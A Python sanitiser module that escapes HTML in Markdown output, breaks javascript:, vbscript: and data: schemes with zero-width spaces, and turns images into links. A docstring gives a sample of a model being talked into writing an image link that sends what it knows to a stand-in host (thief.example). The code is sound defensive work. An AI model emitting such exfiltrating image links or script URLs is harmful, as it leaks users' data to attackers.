"""Makes text harmless for a reader that renders Markdown with raw HTML, unsanitised, inside the host page's own origin
(contracts/opencx.md section 0.10); it must not be used on what is stored, only on what goes out to such a reader.

There are two harmless spellings of `<` and `&`, and both are harmless everywhere: a character reference, which prose
shows as the character and code shows letter by letter, and the character with a zero-width space behind it, after which
neither HTML (WHATWG HTML 13.2.5) nor CommonMark sees a tag, an autolink or a reference. Which of them a place gets is a
guess about how it will look: a wrong one costs looks and never safety.
"""

from __future__ import annotations

import re

_GAP = "\u200b"
# A fenced block, or a span on one line. Bounded, so that no text of ticks takes long.
_CODE = re.compile(
    r"^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*(?:\n.*?)??(?:\n {0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
    r"|(?<!`)(?P<ticks>`{1,8})(?!`)[^\n]{1,500}?(?<!`)(?P=ticks)(?!`)",
    re.MULTILINE | re.DOTALL,
)
# `&b=2`, as in the query of an address, is no reference in any parser: it lacks the semicolon, and the `=` ends it.
_NO_QUERY = r"(?![A-Za-z0-9_.~%-]+=)"
_IN_PROSE = re.compile(f"<|&{_NO_QUERY}")
# What cannot open anything is left alone, so that most code can be copied out of a chat.
_IN_CODE = re.compile(rf"<(?![ =<0-9])|&(?![ &=]){_NO_QUERY}")

# A scheme that runs, in whatever letter case, with what browsers and Markdown remove before they look for it.
_REMOVED = r"[\t\n\r\\]*"
_BEFORE_COLON = r"[\s\\\x00-\x20]*"
_JAVASCRIPT, _VBSCRIPT, _DATA = (_REMOVED.join(name) for name in ("javascript", "vbscript", "data"))
# `data:` and a blank is how people and YAML write; an address goes on at once, or stands in parentheses.
_RUNNING_SCHEME = re.compile(
    rf"(?<![A-Za-z0-9])(?:{_JAVASCRIPT}|{_VBSCRIPT}|(?<=\()[\s\\\x00-\x20]*{_DATA}|{_DATA}(?={_BEFORE_COLON}:[^\s]))"
    rf"(?={_BEFORE_COLON}:)",
    re.IGNORECASE,
)


def neutralise(text: str) -> str:
    """The same text to look at, with nothing in it that a browser would run: tags are shown, and a link to a script
    leads nowhere, because no scheme has a zero-width space in it."""
    parts, end = [], 0
    for code in _CODE.finditer(text):
        parts += [_prose(text[end : code.start()]), _IN_CODE.sub(rf"\g<0>{_GAP}", code[0])]
        end = code.end()
    parts.append(_prose(text[end:]))
    return _RUNNING_SCHEME.sub(rf"\g<0>{_GAP}", "".join(parts))


def without_pictures(text: str) -> str:
    """Pictures as links. A model can be talked into writing `![](https://thief.example/?what-it-knows)`, and a page
    would load that before anybody has read it; a link has to be followed by somebody."""
    return text.replace("![", f"!{_GAP}[")


def _prose(text: str) -> str:
    return _IN_PROSE.sub(lambda found: "&lt;" if found[0] == "<" else "&amp;", text)
